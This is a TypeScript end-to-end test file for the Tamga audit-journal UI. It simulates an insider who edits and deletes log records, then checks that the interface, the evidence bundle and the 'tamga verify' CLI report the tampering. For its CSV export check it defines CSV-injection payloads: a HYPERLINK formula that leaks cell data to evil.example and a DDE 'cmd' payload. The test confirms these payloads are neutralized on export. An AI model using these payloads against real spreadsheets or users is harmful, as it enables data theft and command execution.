/**
 * Issue #11's walk-through, as a new user meets it: an insider edited one record and deleted another, in a view of
 * several tenants' logs. The tampered row is marked without expanding it, the badge names the broken logs and their
 * first bad seqs, the deleted record is called a gap (not "1 more arrived"), the evidence bundle warns and says what
 * `tamga verify` then reports (checked by running it), every export is journalled with the caller's IP, and the CSV
 * opens as text in a real spreadsheet (LibreOffice Calc, with formula evaluation on).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import type { SqliteJournalStore } from '@tamga/server';
import {
  FIXED_MS,
  appendAsReceived,
  hasChromium,
  newContext,
  openJournal,
  rowIds,
  screenshot,
  startFixture,
  waitForRows,
} from './journal-fixture.js';
import type { JournalFixture } from './journal-fixture.js';
import { parseCsvRows } from '../../server/src/test-support/csv-rows.js';

const SOFFICE = '/usr/bin/soffice';
const TAMGA_CLI = fileURLToPath(new URL('../../cli/bin/tamga.js', import.meta.url));

/** True when LibreOffice is installed; in CI its absence is an error, elsewhere a loud skip of the spreadsheet check. */
function hasLibreOffice(): boolean {
  if (existsSync(SOFFICE)) return true;
  if (process.env.CI === 'true') throw new Error(`LibreOffice Calc is required in CI: ${SOFFICE} is missing`);
  console.warn(
    `\n!!! ${SOFFICE} is missing: SKIPPING the spreadsheet check of the CSV export (apt-get install -y libreoffice-calc-nogui) !!!\n`,
  );
  return false;
}

/** Values a spreadsheet would run as formulas (OWASP CSV injection), sent by a producer of tenant acme. */
const FORMULA_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")';
const FORMULA_USER = '@SUM(1+1)';
const FORMULA_ENTITY = '+cmd|" /C calc"!A0';

const at = (mm: number, ss: number): string => new Date(Date.UTC(2026, 2, 10, 10, mm, ss)).toISOString();

/** Twelve events of tenant acme in the fixed hour, one of them with formula-like values. */
function acmeEvents(): Record<string, unknown>[] {
  return Array.from({ length: 12 }, (_, i) => ({
    event: 2001,
    tenantId: 'acme',
    createdAt: at(20 + i, 0),
    ip: `10.30.0.${i + 1}`,
    userId: i === 5 ? FORMULA_USER : `acme-user-${i}`,
    text: i === 5 ? FORMULA_TEXT : null,
    entityData: i === 5 ? FORMULA_ENTITY : { n: i },
  }));
}

/** Clicks "Load more" until every row of the view is shown. */
async function loadAll(page: Page): Promise<void> {
  while ((await page.getByRole('button', { name: 'Load more' }).count()) > 0) {
    const before = (await rowIds(page)).length;
    await page.getByRole('button', { name: 'Load more' }).click();
    await page.waitForFunction((n) => document.querySelectorAll('tr.row').length > n, before);
  }
}

describe.skipIf(!hasChromium())(
  'integrity walk-through: a tampered and a deleted record in a view of several logs',
  () => {
    let fx: JournalFixture;
    let tampered: { id: string; seq: number };
    let deletedSeq: number;
    const files = mkdtempSync(join(tmpdir(), 'tamga-walkthrough-'));

    beforeAll(async () => {
      fx = await startFixture();
      await appendAsReceived(fx.baseUrl, fx.clock, acmeEvents(), FIXED_MS);
      // Every log signed up to its end, as a second after the appends.
      const store = fx.server.journal.store as SqliteJournalStore;
      await fx.server.checkpointer.signPending();
      const defaultLog = (await store.getLog(null))!;
      const acmeLog = (await store.getLog('acme'))!;
      // The insider drops the append-only triggers, edits the entityData of the newest OCR request of the default
      // tenant and deletes an acme sign-in from the middle of its log.
      const db = store.database;
      for (const { name } of db.prepare("SELECT name FROM sqlite_master WHERE type = 'trigger'").all() as {
        name: string;
      }[]) {
        db.exec(`DROP TRIGGER ${name}`);
      }
      const newest = db
        .prepare(
          "SELECT id, seq FROM records WHERE log_id = ? AND user_id = 'svc-ocr' ORDER BY created_at DESC LIMIT 1",
        )
        .get(defaultLog.logId) as { id: string; seq: number };
      tampered = newest;
      db.prepare('UPDATE records SET entity_data = ? WHERE log_id = ? AND seq = ?').run(
        '{"requestId":"req-149","model":"invoices-v3","approved":true}',
        defaultLog.logId,
        newest.seq,
      );
      deletedSeq = 7;
      db.prepare('DELETE FROM records WHERE log_id = ? AND seq = ?').run(acmeLog.logId, deletedSeq);
    });

    afterAll(async () => {
      await fx?.close();
      rmSync(files, { recursive: true, force: true });
    });

    it('marks the tampered row, names both broken logs with their first bad seq and check, and calls the deletion a gap', async () => {
      const context = await newContext(fx);
      const page = await openJournal(context);
      // The row says so itself, without being expanded, with an accessible name.
      const row = page.locator(`tr.row[data-id="${tampered.id}"]`);
      await expect(row.getAttribute('data-integrity')).resolves.toBe('tampered');
      expect(await row.getByRole('img', { name: 'Signature invalid' }).count()).toBe(1);
      expect(await page.locator('tr.row .row-sig').count()).toBe(1);
      expect(await page.locator('.record-detail').count()).toBe(0);

      // The rows show a tampered record: the badge asks for a check now, and names the broken logs.
      const badge = page.locator('.badge.integrity');
      await badge.filter({ hasText: 'Integrity broken' }).waitFor();
      expect(await badge.textContent()).toBe(
        `Integrity broken: default from seq ${tampered.seq} (and 1 more log)`,
      );
      await badge.click();
      const panel = page.getByRole('region', { name: 'Integrity of the logs in this view' });
      await expect(
        panel.locator('.integrity-log[data-tenant="default"] .integrity-problems').innerText(),
      ).resolves.toContain(
        `seq ${tampered.seq}: entityData or text changed (they no longer match the signed digest) RECORD_TAMPERED · payload-mismatch`,
      );
      await expect(
        panel.locator('.integrity-log[data-tenant="acme"] .integrity-problems').innerText(),
      ).resolves.toContain(`seq ${deletedSeq}: records missing from the log LOG_INCONSISTENT · gap`);
      await expect(panel.locator('.integrity-when').textContent()).resolves.toContain('Checked now.');
      await page
        .locator('#results')
        .evaluate((el) => scrollTo({ top: el.getBoundingClientRect().top + scrollY - 70 }));
      await screenshot(page, 'journal-tampered');

      // "Show the record" opens the tampered row.
      await panel.getByRole('button', { name: 'Show the record' }).first().click();
      const detail = page.locator(`.record-detail[data-record-id="${tampered.id}"]`);
      await detail.waitFor();
      await expect(detail.locator('.badge').textContent()).resolves.toBe('Signature invalid');

      // All rows shown, the count holds one more: a record missing from the log, not one that arrived later.
      await loadAll(page);
      await waitForRows(page);
      const note = page.getByRole('alert').filter({ hasText: 'Records are missing from the log' });
      await note.waitFor();
      expect(await note.textContent()).toContain(`acme seq ${deletedSeq}.`);
      expect(await page.getByText('more arrived after').count()).toBe(0);
      await context.close();
    });

    it("says on the tampered record's permalink page which check failed", async () => {
      const context = await newContext(fx);
      const page = await context.newPage();
      await page.goto(`/?id=${tampered.id}`);
      await page.locator('.record-detail').waitFor();
      await page.getByRole('button', { name: 'Verify this record' }).click();
      const result = page.locator('.record-evidence-result');
      await result.getByText(`Verification failed from seq ${tampered.seq}`).waitFor();
      expect(await result.locator('li').allInnerTexts()).toEqual([
        `seq ${tampered.seq}: entityData or text changed (they no longer match the signed digest) RECORD_TAMPERED · payload-mismatch`,
      ]);
      await context.close();
    });

    it('looks the same in Russian and the dark theme, and on a phone', async () => {
      const ru = await newContext(fx, { locale: 'ru-RU', colorScheme: 'dark' });
      const page = await openJournal(ru);
      const badge = page.locator('.badge.integrity');
      await badge.filter({ hasText: 'Целостность нарушена' }).waitFor();
      expect(await badge.textContent()).toBe(
        `Целостность нарушена: default с seq ${tampered.seq} (и ещё 1 журнал)`,
      );
      expect(await page.getByRole('img', { name: 'Подпись неверна' }).count()).toBe(1);
      await badge.click();
      await page.getByRole('region', { name: 'Целостность журналов в этом представлении' }).waitFor();
      await page
        .locator('#results')
        .evaluate((el) => scrollTo({ top: el.getBoundingClientRect().top + scrollY - 70 }));
      await screenshot(page, 'journal-tampered-ru-dark');
      await ru.close();

      const phone = await newContext(fx, { viewport: { width: 375, height: 812 } });
      const narrow = await openJournal(phone);
      await narrow.locator('.badge.integrity', { hasText: 'Integrity broken' }).waitFor();
      const marked = (await narrow.locator(`tr.row[data-id="${tampered.id}"]`).boundingBox())!;
      expect(marked.y + marked.height).toBeLessThan(812);
      await screenshot(narrow, 'journal-tampered-narrow');
      await phone.close();
    });

    it("warns before and after downloading the broken log's bundle, and tamga verify reports what the page said", async () => {
      const context = await newContext(fx);
      const page = await openJournal(
        context,
        '/?from=2026-03-10T10:00:00Z&to=2026-03-10T11:00:00Z&tenantId=acme',
      );
      await page.locator('.badge.integrity', { hasText: 'Integrity broken: acme' }).waitFor();
      let downloads = 0;
      page.on('download', () => downloads++);
      await page.getByRole('button', { name: 'Evidence bundle' }).click();
      // Before: what the server found and what tamga verify will report, and nothing downloaded yet.
      const warning = page.getByRole('alertdialog');
      const expected = `npx tamga verify will report this bundle as tampered from seq ${deletedSeq} and exit with code 1.`;
      await expect(warning.textContent()).resolves.toContain(expected);
      await expect(warning.textContent()).resolves.toContain(
        `seq ${deletedSeq}: records missing from the log`,
      );
      expect(downloads).toBe(0);
      await screenshot(page, 'bundle-warning');
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        warning.getByRole('button', { name: 'Download the bundle' }).click(),
      ]);
      // After: saved, and the same warning stays in the status line.
      const file = join(files, download.suggestedFilename());
      await download.saveAs(file);
      await expect(page.locator('.export-status').textContent()).resolves.toContain(expected);
      // tamga verify, offline, says what the page said: tampered from that seq, exit code 1.
      const verify = spawnSync(process.execPath, [TAMGA_CLI, 'verify', file, '--json'], { encoding: 'utf8' });
      expect(verify.status).toBe(1);
      const report = JSON.parse(verify.stdout) as {
        status: string;
        firstBadSeq: number;
        problems: { reason: string }[];
      };
      expect(report).toMatchObject({ status: 'tampered', firstBadSeq: deletedSeq });
      expect(report.problems[0]!.reason).toBe('gap');
      await context.close();
    });

    it('journals every export with the caller and the IP, and the CSV opens as text in a spreadsheet', async () => {
      const context = await newContext(fx);
      const page = await openJournal(
        context,
        '/?from=2026-03-10T10:00:00Z&to=2026-03-10T11:00:00Z&tenantId=acme',
      );
      const [csv] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Export CSV' }).click(),
      ]);
      const csvFile = join(files, csv.suggestedFilename());
      await csv.saveAs(csvFile);
      const [ndjson] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Export NDJSON' }).click(),
      ]);
      expect(ndjson.suggestedFilename()).toMatch(/\.ndjson$/);
      await page.getByText('Exported 12 records; the export is journalled.').waitFor();

      // The cells a spreadsheet would run are neutralized, as OWASP advises.
      const [header, ...rows] = parseCsvRows(readFileSync(csvFile, 'utf8').replace(/^\uFEFF/, ''));
      const cell = (row: string[], name: string): string => row[header!.indexOf(name)]!;
      const formulas = rows.find((r) => cell(r, 'userId').includes('SUM'))!;
      expect([cell(formulas, 'text'), cell(formulas, 'userId'), cell(formulas, 'entityData')]).toEqual([
        `'${FORMULA_TEXT}`,
        `'${FORMULA_USER}`,
        `'${FORMULA_ENTITY}`,
      ]);

      // Every export of this walk-through is in the journal, in the page, each with the caller's IP.
      const own = await openJournal(
        context,
        '/?from=2026-03-10T10:00:00Z&to=2026-03-10T11:00:00Z&tenantId=tamga&event=32000',
      );
      const exported = await own.$$eval('tr.row', (trs) =>
        trs.map((tr) => [
          tr.querySelector('.col-ip')?.textContent,
          tr.querySelector('.col-user')?.textContent,
        ]),
      );
      expect(exported.length).toBeGreaterThanOrEqual(3);
      expect(new Set(exported.map(([ip, user]) => `${ip} ${user}`))).toEqual(
        new Set(['127.0.0.1 bootstrap-admin']),
      );
      await own.locator('tr.row').first().click();
      await expect(own.locator('[data-field="entityData"] pre').textContent()).resolves.toContain(
        '"format": "ndjson"',
      );
      await context.close();

      if (!hasLibreOffice()) return;
      // LibreOffice Calc opens the CSV with formula evaluation on: a control row's formula is computed, the export's stay text.
      const probe = join(files, 'probe.csv');
      writeFileSync(probe, `${readFileSync(csvFile, 'utf8').trimEnd()}\r\ncontrol,=40+2\r\n`);
      const out = join(files, 'converted');
      execFileSync(
        SOFFICE,
        [
          `-env:UserInstallation=file://${join(files, 'lo-profile')}`,
          '--headless',
          '--norestore',
          '--infilter=CSV:44,34,76,1,,,,,,,,true',
          '--convert-to',
          'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false',
          '--outdir',
          out,
          probe,
        ],
        { stdio: 'ignore', timeout: 120_000 },
      );
      const opened = parseCsvRows(readFileSync(join(out, 'probe.csv'), 'utf8'));
      expect(opened.at(-1)!.slice(0, 2)).toEqual(['control', '42']);
      const shown = opened.find((r) => cell(r, 'userId')?.includes('SUM'))!;
      expect([cell(shown, 'text'), cell(shown, 'userId'), cell(shown, 'entityData')]).toEqual([
        `'${FORMULA_TEXT}`,
        `'${FORMULA_USER}`,
        `'${FORMULA_ENTITY}`,
      ]);
    }, 180_000);
  },
);
